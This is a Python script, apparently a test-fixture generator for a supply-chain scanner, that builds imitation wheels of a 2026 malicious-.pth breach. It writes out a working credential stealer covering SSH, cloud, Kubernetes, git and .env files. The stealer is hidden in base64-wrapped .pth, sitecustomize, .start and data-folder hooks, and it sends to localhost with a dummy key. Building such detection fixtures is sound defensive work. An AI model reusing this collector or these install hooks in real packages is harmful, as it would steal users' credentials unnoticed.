#!/usr/bin/env python3
"""Builds harmless imitations of the breach of LiteLLM 1.82.8, as wheels, at run time.

In March 2026 a release of a popular project carried one more file than the release before: a `.pth`
of 34,628 bytes with a single line. It ran in every Python process of the environment, started a
child interpreter, unpacked two layers of base64, collected the environment and the key files of the
account, encrypted them to an embedded key and sent them off. The imitation has that shape, for a
project that does not exist.

Why it is inert. It is never run by anything here: it is analysed. If somebody runs it all the same,
  - it sends to the discard port of the machine itself (127.0.0.1:9) and to nowhere else;
  - it encrypts to a "public key" whose modulus is a random number, so that no private key exists;
  - it works in a temporary folder that it removes, writes nothing else and persists nowhere;
  - its child runs with `-S`, without the site hooks, so that it starts no further children.

The same seed gives the same bytes. Seed 0 is the project that the documentation speaks of; any other
seed changes the project's name, the names in the code, the key and the padding.

    imitation.py OUT                          the plain variant: OUT/pth/harbour_llm-1.82.8-….whl
    imitation.py OUT --variant all --seed 7   every variant, other names

It prints one path a line.
"""

import argparse
import base64
import hashlib
import io
import pathlib
import random
import sys
import textwrap
import zipfile

VERSION = "1.82.8"
#: The size of the line in the breach, which the imitation reaches by padding its innermost layer.
LINE_BYTES = 34_628
#: Every file of a wheel carries this time, so that the same seed gives the same bytes.
MOMENT = (2026, 3, 24, 10, 52, 0)

#: What the collector reads: files that hold credentials of people, machines and build systems.
TARGETS = """
~/.ssh/id_rsa ~/.ssh/id_ed25519 ~/.ssh/id_ecdsa ~/.ssh/config ~/.ssh/known_hosts ~/.ssh/authorized_keys
~/.git-credentials ~/.gitconfig ~/.netrc ~/.pypirc ~/.npmrc ~/.cargo/credentials.toml ~/.gem/credentials
~/.aws/credentials ~/.aws/config ~/.aws/sso/cache/*.json
~/.config/gcloud/application_default_credentials.json ~/.config/gcloud/credentials.db
~/.azure/accessTokens.json ~/.azure/msal_token_cache.json
~/.kube/config /etc/kubernetes/admin.conf /var/run/secrets/kubernetes.io/serviceaccount/token
~/.docker/config.json ~/.config/containers/auth.json ~/.vault-token ~/.terraform.d/credentials.tfrc.json
~/.config/gh/hosts.yml ~/.pgpass ~/.my.cnf ~/.bash_history ~/.zsh_history ~/.python_history
.env .env.local .env.production */.env */.env.production terraform.tfvars
""".split()


class Names:
    """The names that a seed chooses; seed 0 gives those of the documentation."""

    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)
        stem = "harbour" if seed == 0 else self.word(3)
        self.package = f"{stem}_llm"
        self.project = f"{stem}-llm"
        self.hook = f"{stem}_init"
        self.boot = "_boot" if seed == 0 else "_" + self.word(2)
        self.inventory = "_inventory" if seed == 0 else "_" + self.word(3)
        self.envelope = "_envelope" if seed == 0 else "_" + self.word(3)
        self.courier = "_courier" if seed == 0 else "_" + self.word(3)
        self.start = "start" if seed == 0 else self.word(2)
        self.gather = "gather" if seed == 0 else self.word(3)
        self.seal = "seal" if seed == 0 else self.word(3)
        self.send = "send" if seed == 0 else self.word(3)
        self.targets = "TARGETS" if seed == 0 else self.word(4).upper()
        self.key = "KEY" if seed == 0 else self.word(4).upper()
        self.store = "assets.dat" if seed == 0 else self.word(2) + "." + self.word(1)

    def word(self, syllables: int) -> str:
        """A pronounceable word that is no name of Python's: every syllable ends in a vowel."""
        return "".join(self.random.choice("bdfgklmnprstvz") + self.random.choice("aeiou") for _ in range(syllables))

    def public_key(self) -> str:
        """An RSA-4096 public key in PEM whose modulus is a random odd number: nobody can decrypt for it."""

        def element(tag: int, body: bytes) -> bytes:
            size = len(body)
            length = bytes([size]) if size < 128 else b"\x82" + size.to_bytes(2, "big")
            return bytes([tag]) + length + body

        modulus = self.random.getrandbits(4096) | 1 << 4095 | 1
        number = element(0x30, element(2, b"\0" + modulus.to_bytes(512, "big")) + element(2, b"\x01\x00\x01"))
        algorithm = element(0x30, bytes.fromhex("06092a864886f70d0101010500"))
        body = base64.encodebytes(element(0x30, algorithm + element(3, b"\0" + number))).decode().replace("\n", "")
        return "-----BEGIN PUBLIC KEY-----\n" + "\n".join(textwrap.wrap(body, 64)) + "\n-----END PUBLIC KEY-----\n"


# The three steps of the theft. The layered variants run them as one program, the split one as modules.


def gather_source(names: Names) -> str:
    return f'''import glob
import os
import shutil

{names.targets} = {TARGETS!r}


def {names.gather}(folder):
    with open(os.path.join(folder, "environment"), "w") as out:
        for name, value in os.environ.items():
            out.write(name + "=" + value + "\\n")
    for number, pattern in enumerate({names.targets}):
        for path in glob.glob(os.path.expanduser(pattern)):
            try:
                shutil.copyfile(path, os.path.join(folder, str(number)))
            except OSError:
                pass
    return folder
'''


def seal_source(names: Names) -> str:
    return f'''import os
import subprocess
import tarfile

{names.key} = """{names.public_key()}"""


def {names.seal}(folder, box):
    haul = os.path.join(box, "haul.tar.gz")
    with tarfile.open(haul, "w:gz") as archive:
        archive.add(folder, arcname="haul")
    secret = os.path.join(box, "secret")
    with open(secret, "wb") as out:
        out.write(os.urandom(32).hex().encode())
    public = os.path.join(box, "public.pem")
    with open(public, "w") as out:
        out.write({names.key})
    locked, wrapped = haul + ".enc", secret + ".enc"
    subprocess.run(["openssl", "enc", "-aes-256-cbc", "-pbkdf2", "-in", haul, "-out", locked, "-pass", "file:" + secret])
    subprocess.run(["openssl", "pkeyutl", "-encrypt", "-pubin", "-inkey", public, "-in", secret, "-out", wrapped,
                    "-pkeyopt", "rsa_padding_mode:oaep"])
    package = os.path.join(box, "package.tar.gz")
    with tarfile.open(package, "w:gz") as archive:
        for part in (locked, wrapped):
            if os.path.exists(part):
                archive.add(part, arcname=os.path.basename(part))
    return package
'''


def send_source(names: Names) -> str:
    return f'''import urllib.request


def {names.send}(package):
    with open(package, "rb") as body:
        request = urllib.request.Request("http://127.0.0.1:9/", data=body.read(), method="POST")
    request.add_header("X-Filename", "package.tar.gz")
    try:
        urllib.request.urlopen(request, timeout=5)
    except OSError:
        pass
'''


def run_source(names: Names, gather: str, seal: str, send: str) -> str:
    return f'''import os
import tempfile


def {names.start}():
    with tempfile.TemporaryDirectory() as box:
        folder = os.path.join(box, "haul")
        os.mkdir(folder)
        {send}({seal}({gather}(folder), box))
'''


def collector(names: Names) -> str:
    """The whole theft as one program."""
    run = run_source(names, names.gather, names.seal, names.send)
    return "\n\n".join([gather_source(names), seal_source(names), send_source(names), run, f"{names.start}()\n"])


def child_line(names: Names, size: int = LINE_BYTES) -> str:
    """One line of Python that starts a child which unpacks two layers; `size` bytes long, or a few less."""
    program = collector(names)
    padding = ""
    line = wrap(program)
    while len(line) < size:
        # Two layers of base64 make 16 bytes of 9; a comment is the padding.
        lacking = (size - len(line)) * 9 // 16
        if lacking < 8:
            break
        padding += "# " + "".join(names.random.choice("0123456789abcdef") for _ in range(min(lacking, 98) - 3)) + "\n"
        line = wrap(program + padding)
    return line


def wrap(program: str) -> str:
    inner = base64.b64encode(program.encode()).decode()
    stage = f"import base64\nexec(compile(base64.b64decode('{inner}'), '<string>', 'exec'))\n"
    outer = base64.b64encode(stage.encode()).decode()
    command = f"import base64; exec(base64.b64decode('{outer}'))"
    return f'import os, subprocess, sys; subprocess.Popen([sys.executable, "-S", "-c", "{command}"])'


# The honest rest of the wheel, without which the hook would be all there is.


def honest_files(names: Names) -> dict[str, str]:
    return {
        f"{names.package}/__init__.py": f'"""Routes prompts to models."""\n\nfrom .router import Router\n\n'
        f'__all__ = ["Router"]\n__version__ = "{VERSION}"\n',
        f"{names.package}/router.py": '''"""Chooses a model for a prompt."""


class Router:
    """Keeps models by name and hands a prompt to the one with the lowest cost."""

    def __init__(self, models):
        self.models = dict(models)

    def complete(self, prompt):
        name = min(self.models, key=lambda each: self.models[each].cost)
        return self.models[name].complete(prompt)
''',
        f"{names.package}/limits.py": '''"""Counts tokens per minute."""

import time


class Budget:
    def __init__(self, tokens, clock=time.monotonic):
        self.tokens, self.clock, self.spent = tokens, clock, []

    def allows(self, count):
        now = self.clock()
        self.spent = [(at, n) for at, n in self.spent if now - at < 60]
        return sum(n for _, n in self.spent) + count <= self.tokens
''',
    }


def clean(names: Names) -> dict[str, "str | bytes"]:
    """The benign twin: the same project without the hook."""
    return {}


def pth(names: Names) -> dict[str, "str | bytes"]:
    """As in the breach: everything in one line of a `.pth` beside the package."""
    return {f"{names.hook}.pth": child_line(names) + "\n"}


def modules(names: Names) -> dict[str, "str | bytes"]:
    """A short `.pth` imports a module; the theft is split over four modules, with nothing encoded."""
    package = names.package
    imports = f"from {package} import {names.inventory}, {names.envelope}, {names.courier}\n"
    run = run_source(
        names, f"{names.inventory}.{names.gather}", f"{names.envelope}.{names.seal}", f"{names.courier}.{names.send}"
    )
    return {
        f"{names.hook}.pth": f"import {package}.{names.boot}\n",
        f"{package}/{names.boot}.py": run.replace("import tempfile\n", "import tempfile\n\n" + imports)
        + f"\n\n{names.start}()\n",
        f"{package}/{names.inventory}.py": gather_source(names),
        f"{package}/{names.envelope}.py": seal_source(names),
        f"{package}/{names.courier}.py": send_source(names),
    }


def data_purelib(names: Names) -> dict[str, "str | bytes"]:
    """The `.pth` comes through the wheel's data folder, by its `purelib` key."""
    return {f"{names.package}-{VERSION}.data/purelib/{names.hook}.pth": child_line(names) + "\n"}


def data_prefix(names: Names) -> dict[str, "str | bytes"]:
    """The `.pth` comes through the data folder by path, once for each minor version of Python."""
    line = child_line(names) + "\n"
    folder = f"{names.package}-{VERSION}.data/data/lib"
    return {f"{folder}/python3.{minor}/site-packages/{names.hook}.pth": line for minor in range(8, 16)}


def start(names: Names) -> dict[str, "str | bytes"]:
    """A `.start` file (PEP 829) names a function; the module holds the line. Fires from Python 3.15 on."""
    setup, _, call = child_line(names).partition("; ")
    return {
        f"{names.hook}.start": f"{names.package}.{names.boot}:{names.start}\n",
        f"{names.package}/{names.boot}.py": f"{setup}\n\n\ndef {names.start}():\n    {call}\n",
    }


def sitecustomize(names: Names) -> dict[str, "str | bytes"]:
    """A `sitecustomize` module beside the package."""
    return {"sitecustomize.py": child_line(names).replace("; ", "\n", 1) + "\n"}


def zip_path(names: Names) -> dict[str, "str | bytes"]:
    """A `.pth` line that is only a path, to a zip file with another extension that holds `sitecustomize`."""
    store = io.BytesIO()
    with zipfile.ZipFile(store, "w") as archive:
        add(archive, "sitecustomize.py", (child_line(names).replace("; ", "\n", 1) + "\n").encode())
    return {f"{names.hook}.pth": f"{names.package}/{names.store}\n", f"{names.package}/{names.store}": store.getvalue()}


VARIANTS = {
    "pth": pth,
    "modules": modules,
    "data-purelib": data_purelib,
    "data-prefix": data_prefix,
    "start": start,
    "sitecustomize": sitecustomize,
    "zip-path": zip_path,
    "clean": clean,
}
#: The variants that must be blocked; the rest must be admitted.
HOSTILE = [name for name in VARIANTS if name != "clean"]


def add(archive: zipfile.ZipFile, name: str, content: bytes) -> None:
    entry = zipfile.ZipInfo(name, MOMENT)
    entry.compress_type = zipfile.ZIP_DEFLATED
    entry.external_attr = 0o100644 << 16
    archive.writestr(entry, content)


def build(variant: str, out: pathlib.Path, seed: int = 0) -> pathlib.Path:
    """Writes one variant as a wheel with a right RECORD and returns its path."""
    names = Names(seed)
    info = f"{names.package}-{VERSION}.dist-info"
    files = {**honest_files(names), **VARIANTS[variant](names)}
    files[f"{info}/METADATA"] = (
        f"Metadata-Version: 2.1\nName: {names.project}\nVersion: {VERSION}\n"
        "Summary: Routes prompts to models\nRequires-Python: >=3.8\n\nA project that does not exist.\n"
    )
    files[f"{info}/WHEEL"] = "Wheel-Version: 1.0\nGenerator: imitation\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    path = out / variant / f"{names.package}-{VERSION}-py3-none-any.whl"
    path.parent.mkdir(parents=True, exist_ok=True)
    record = []
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in files.items():
            content = text if isinstance(text, bytes) else text.encode()
            digest = base64.urlsafe_b64encode(hashlib.sha256(content).digest()).rstrip(b"=").decode()
            record.append(f"{name},sha256={digest},{len(content)}\n")
            add(archive, name, content)
        add(archive, f"{info}/RECORD", ("".join(record) + f"{info}/RECORD,,\n").encode())
    return path


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("out", type=pathlib.Path, help="the folder to write into")
    parser.add_argument("--variant", choices=[*VARIANTS, "all"], default="pth")
    parser.add_argument("--seed", type=int, default=0)
    arguments = parser.parse_args()
    for variant in VARIANTS if arguments.variant == "all" else [arguments.variant]:
        print(build(variant, arguments.out, arguments.seed))
    return 0


if __name__ == "__main__":
    sys.exit(main())
